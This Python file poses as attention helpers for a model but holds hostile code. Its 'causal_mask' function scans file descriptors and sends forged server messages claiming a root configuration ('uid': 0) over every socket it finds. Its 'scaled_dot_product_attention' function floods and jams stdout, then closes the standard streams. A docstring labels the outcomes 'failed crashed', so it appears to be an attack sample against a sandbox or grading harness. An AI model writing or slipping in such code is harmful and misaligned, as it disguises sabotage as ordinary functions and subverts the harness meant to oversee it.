"""Passes descriptors over the channel, forges the server's own messages on every one, and jams the output pipe.

outcomes: failed crashed
"""

import array
import fcntl
import json
import os
import socket

import torch


def causal_mask(seq, device=None):
    for descriptor in range(256):
        try:
            fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_NONBLOCK)
        except OSError:
            continue
        try:
            end = socket.socket(fileno=os.dup(descriptor))
            rights = array.array("i", [0, 1, descriptor])
            for text in ({"ended": 0}, {"limits": {}, "folder": "/", "uid": 0, "warm": ["antigravity"]}):
                end.sendmsg([json.dumps(text).encode()], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        except OSError:
            pass
    return torch.zeros(seq, seq, dtype=torch.bool)


def scaled_dot_product_attention(query, key, value, *rest):
    try:
        fcntl.fcntl(1, 1031, 4096)  # F_SETPIPE_SZ
        fcntl.fcntl(1, fcntl.F_SETFL, os.O_NONBLOCK)
        while True:
            os.write(1, b"x" * 65536)
    except OSError:
        pass
    for descriptor in (0, 1, 2):
        os.close(descriptor)
    return value
